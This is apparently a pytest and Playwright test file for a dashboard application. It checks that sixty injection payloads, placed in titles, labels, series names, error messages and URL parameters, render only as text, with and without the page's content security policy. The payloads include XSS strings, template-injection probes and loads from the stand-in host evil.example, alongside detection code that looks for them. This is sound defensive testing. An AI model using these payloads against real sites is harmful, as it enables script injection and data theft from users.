"""Text that would like to be more, in every place where text is shown: with the policy of the page and without."""

import json
import shutil
from collections.abc import Iterator
from pathlib import Path
from typing import Any
from urllib.parse import quote

import pytest
from own_apache import Host, own_apache
from playwright.sync_api import Browser, Page
from served import TOKEN, Served

RUN = "window.ran=1;alert(1)"
PAYLOADS = [
    f"<script>{RUN}</script>",
    f"</script><script>{RUN}</script>",
    f"</title><script>{RUN}</script>",
    f"</textarea><script>{RUN}</script>",
    f"</noscript><script>{RUN}</script>",
    f"--><script>{RUN}</script><!--",
    f"<![CDATA[<script>{RUN}</script>]]>",
    "<script src=//evil.example/x.js></script>",
    "<script src=data:,alert(1)></script>",
    f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    f"<img src=x onerror={RUN}>",
    "<img src=//evil.example/x.png>",
    f"<img/src=x/onerror={RUN}//",
    f"<IMG SRC=x ONERROR={RUN}>",
    f"<svg onload={RUN}>",
    f"<svg/onload={RUN}>",
    f"<svg><script>{RUN}</script></svg>",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
    "<svg><use href=//evil.example/x.svg#a>",
    f"<math><mtext><table><mglyph><style><img src=x onerror={RUN}>",
    f"<body onload={RUN}>",
    f"<details open ontoggle={RUN}>x</details>",
    f"<input autofocus onfocus={RUN}>",
    f"<video><source onerror={RUN}></video>",
    f"<audio src=x onerror={RUN}>",
    f"<marquee onstart={RUN}>x</marquee>",
    f"<iframe src=javascript:{RUN}></iframe>",
    "<iframe srcdoc='<script>parent.ran=1</script>'></iframe>",
    "<object data=//evil.example/x></object>",
    "<embed src=//evil.example/x>",
    "<base href=//evil.example/>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=//evil.example/'>",
    f"<form action=javascript:{RUN}><button>x</button></form>",
    f"<a href=javascript:{RUN}>x</a>",
    f"javascript:{RUN}",
    f"JaVaScRiPt:{RUN}//",
    f"data:text/html,<script>{RUN}</script>",
    f'"><script>{RUN}</script>',
    f"'><script>{RUN}</script>",
    f'" onmouseover="{RUN}" x="',
    f"' onfocus='{RUN}' autofocus x='",
    f'"-{RUN}-"',
    f"`${{{RUN}}}`",
    f"&lt;script&gt;{RUN}&lt;/script&gt;",
    f"&#60;img src=x onerror={RUN}&#62;",
    "&amp;quot;&#x22;&NewLine;&nbsp;",
    "<style>*{background:url(//evil.example/x)}</style>",
    "x;background:url(//evil.example/x)",
    "</style><style>@import '//evil.example/x'</style>",
    "{{7*7}}{% for x in ().__class__.__base__.__subclasses__() %}x{% endfor %}",
    "${7*7}#{7*7}<%= 7*7 %>{{constructor.constructor('alert(1)')()}}",
    "%s %(name)s %n {0.__class__} {}",
    r"$$\href{javascript:alert(1)}{x}$$",
    r"\[x^2\] and \(y\) and $$z$$",
    "@{v} @v $name @$name{safe} @{t}{safe}",
    "<b>@v{safe}</b> $index {safe}",
    "\u202egnp.exe\u202c \u200f\u2066x\u2069 \ufeff\u200b",
    "a\u0000b\u0007c\u001b[31md\u007fe\u0085f\u2028g",
    "\ufffd\U0001f4a9 e\u0301\u0301\u0301\u0301 \U000e0001 x" + "\u0489" * 20,
]
PARTS = 4  # dashboards that the payloads are shared among
FILE = """
import json
from bokeh.layouts import column
from bokeh.models import ColumnDataSource, HoverTool, Label, LinearAxis, Range1d, Title
from bokeh.plotting import figure
from tidegauge import dashboard, live, sampler

TEXTS = json.loads({texts!r})
NAMES = json.loads({names!r})

@sampler(*NAMES, every_s=1)
def names():
    return dict.fromkeys(NAMES, 1)

@sampler(NAMES[0] + " fails", every_s=1)
def fails():
    raise RuntimeError(" ".join(TEXTS)[:290])

@dashboard(title=" ".join(TEXTS), description=" ".join(TEXTS))
def page():
    plots = []
    for n, text in enumerate(TEXTS):
        plot = figure(x_axis_type="datetime", title=text, name=text, height=300, width=600)
        plot.xaxis.axis_label = plot.yaxis.axis_label = text
        plot.line("t", "v", source=live(NAMES[n % len(NAMES)], description=text, unit=text), legend_label=text)
        plot.extra_x_ranges = plot.extra_y_ranges = {{"own": Range1d(-1, 1)}}
        own = {{"x_range_name": "own", "y_range_name": "own"}}
        source = ColumnDataSource({{"x": [0], "y": [0], "text": [text]}})
        dot = plot.scatter("x", "y", source=source, size=200, alpha=0.2, legend_field="text", **own)
        plot.text("x", "y", "text", source=source, **own)
        plot.add_layout(Label(x=0, y=0, text=text, **own))
        plot.add_layout(Title(text=text), "right")
        plot.add_layout(LinearAxis(axis_label=text, major_label_overrides={{0: text}}, **own), "below")
        plot.add_tools(HoverTool(renderers=[dot], tooltips=[(text, "@text"), ("@text", "@{{text}}")]))
        plots.append(plot)
    return column(plots)
"""
PUSHED = """
from bokeh.plotting import figure
from tidegauge import dashboard, live

@dashboard(title="Pushed")
def page():
    plot = figure(x_axis_type="datetime", title="pushed", height=900, width=900)
    plot.line("t", "v", source=live("pushed *"))
    return plot
"""


def is_name(text: str) -> bool:
    return text.isprintable() and text == text.strip()


NAMES = [text for text in PAYLOADS if is_name(text)]
INSPECT = """() => {
    const odd = "img[src='x'], iframe, object, embed, base, video, audio, marquee, math, details[ontoggle], "
        + "meta[http-equiv], script:not([src]), [src*='evil.example'], [href*='evil.example'], [data*='evil.example']";
    const found = {elements: [], attributes: []};
    const walk = (root) => {
        for (const one of root.querySelectorAll("*")) {
            if (one.matches(odd)) found.elements.push(one.outerHTML.slice(0, 100));
            for (const {name, value} of one.attributes) {
                const runs = /href|src|action/i.test(name) && /^\\s*javascript:/i.test(value);
                if (runs || /^on/i.test(name)) found.attributes.push(`${name}=${value}`);
            }
            if (one.shadowRoot) walk(one.shadowRoot);
        }
    };
    walk(document);
    return {...found, ran: window.ran ?? null, mathjax: typeof window.MathJax};
}"""
# Where the plots are on the page, in their order.
PLOTS = """() => Bokeh.documents[0].roots()[0].children.map((plot) => {
    const {x, y, width, height} = Bokeh.index.find_one(plot).frame_view?.el?.getBoundingClientRect()
        ?? Bokeh.index.find_one(plot).el.getBoundingClientRect();
    return {x, y: y + scrollY, width, height};
})"""
CLEAN: dict[str, Any] = {"elements": [], "attributes": [], "ran": None, "mathjax": "undefined"}


def test_there_are_sixty() -> None:
    assert len(set(PAYLOADS)) == 60


@pytest.fixture(scope="module")
def host(server: Served) -> Iterator[Host]:
    folder = Path("/dev/shm") / f"tidegauge-test-payloads-{server.port}"  # noqa: S108 - readable by Apache's user
    folder.mkdir(mode=0o755)
    for part in range(PARTS):
        text = FILE.format(texts=json.dumps(PAYLOADS[part::PARTS]), names=json.dumps(NAMES[part::PARTS]))
        (folder / f"part{part}.py").write_text(text)
    (folder / "pushed.py").write_text(PUSHED)
    (folder / "broken.py").write_text(f"raise RuntimeError({' '.join(PAYLOADS[::8])!r})")
    settings = {"TIDEGAUGE_DASHBOARDS": str(folder), "TIDEGAUGE_SHOW_ERRORS": "everyone"}
    try:
        with own_apache(server, settings=settings, token=TOKEN) as one:
            one.wait_ready("/live/health/ready")  # many dashboards
            yield one
    finally:
        shutil.rmtree(folder)


class Visit:
    """A page in a browser, with all that it asked for and complained about, and the dialogs it opened."""

    def __init__(self, page: Page, host: Host) -> None:
        self.page = page
        self.url = f"{host.url}live/"
        self.trouble: list[str] = []
        page.on("dialog", self._dismiss)
        page.on("pageerror", lambda error: self.trouble.append(f"error: {error}"))
        page.on("console", lambda one: self._hear(one.type, one.text))
        page.on("request", lambda one: self._ask(one.url))

    def _dismiss(self, dialog: Any) -> None:
        self.trouble.append(f"dialog: {dialog.message}")
        dialog.dismiss()

    def _hear(self, kind: str, text: str) -> None:
        if kind == "error" and "the server responded with a status of" not in text:
            self.trouble.append(f"console: {text}")

    def _ask(self, url: str) -> None:
        if not url.startswith((self.url, "data:", "blob:")):
            self.trouble.append(f"request: {url}")

    def open(self, path: str) -> None:
        self.page.goto(self.url + path)

    def check(self) -> None:
        """Nothing of a payload ran, loaded or became an element."""
        assert self.page.evaluate(INSPECT) == CLEAN
        assert self.trouble == []


@pytest.fixture(scope="module", params=["policy", "no policy"])
def visit(request: pytest.FixtureRequest, browser: Browser, host: Host) -> Iterator[Visit]:
    context = browser.new_context(bypass_csp=request.param == "no policy", viewport={"width": 900, "height": 900})
    yield Visit(context.new_page(), host)
    context.close()


def visible(text: str) -> str:
    """As HTML has it: without what a parser drops or joins."""
    return " ".join(text.replace("\0", "").replace("\ufffd", "").split())


def test_names_of_series_are_taken_as_they_are_or_refused_with_a_sentence(host: Host) -> None:
    for text in PAYLOADS:
        body = json.dumps({"name": f"pushed {text}", "value": 1}).encode()
        answer = host.ask("/live/api/series", "POST", body, Authorization=f"Bearer {TOKEN}")
        if is_name(text):
            assert answer.status == 200, text
        else:
            assert answer.status == 400, text
            assert "cannot name a series" in answer.json["detail"]


@pytest.fixture(scope="module")
def pushed(host: Host) -> None:
    for text in NAMES:
        body = json.dumps({"name": f"pushed {text}", "value": 1}).encode()
        host.ask("/live/api/series", "POST", body, Authorization=f"Bearer {TOKEN}")


@pytest.mark.parametrize("part", range(PARTS))
def test_a_dashboard_shows_them_as_text(visit: Visit, part: int) -> None:
    visit.open(f"dashboard/part{part}/")
    page = visit.page
    page.locator("#figures canvas").first.wait_for(state="attached")
    page.locator("#numbers summary").last.wait_for()
    texts = PAYLOADS[part::PARTS]
    titles = page.locator("#numbers summary > span:first-child").evaluate_all(
        "all => all.map((one) => one.textContent)"
    )
    assert titles == texts
    assert visible(str(page.locator("h1").text_content())) == visible(" ".join(texts))
    hovers = 0
    for box in page.evaluate(PLOTS):
        page.evaluate("y => scrollTo(0, y)", box["y"] - 200)
        y = box["y"] - page.evaluate("scrollY") + box["height"] - 10  # below the legend
        for step in (0, 3):
            page.mouse.move(box["x"] + box["width"] / 2 + step, y)
        page.wait_for_timeout(100)
        hovers += page.locator(".bk-Tooltip").count()
        visit.check()
    assert hovers > len(texts) / 2  # a legend may be in the way
    page.locator("#numbers details").evaluate_all("all => all.forEach((one) => { one.open = true; })")
    visit.check()


@pytest.mark.usefixtures("pushed")
@pytest.mark.parametrize(
    "path", ["", "dashboard/broken/", "dashboard/pushed/table/", "dashboard/part3/table/", "health"]
)
def test_a_page_without_plots_shows_them_as_text(visit: Visit, path: str) -> None:
    visit.open(path)
    text = visible(str(visit.page.locator("body").text_content()))
    assert "window.ran=1;alert(1)" in text
    if "pushed" in path:
        names = visit.page.locator("h2").all_text_contents()
        assert set(names) >= {f"pushed {name}" for name in NAMES if "*" not in name}
    visit.check()


def test_parameters_are_text_too(visit: Visit) -> None:
    for text in PAYLOADS:
        given = quote(text, safe="")
        for path in (f"dashboard/{given}/", f"api/series?name={given}"):
            visit.open(path)
            visit.check()


@pytest.mark.parametrize("part", range(PARTS))
def test_what_a_script_reads_from_the_address_is_text_too(visit: Visit, part: int) -> None:
    given = quote(" ".join(PAYLOADS[part::PARTS]), safe="")
    visit.open(f"dashboard/server/?embed&plot={given}")
    visit.page.get_by_text("there is no plot").wait_for()
    visit.check()
    visit.open(f"dashboard/server/?span={given}&theme={given}&kiosk={given}#{given}")
    visit.page.locator("#figures canvas").first.wait_for(state="attached")
    visit.check()
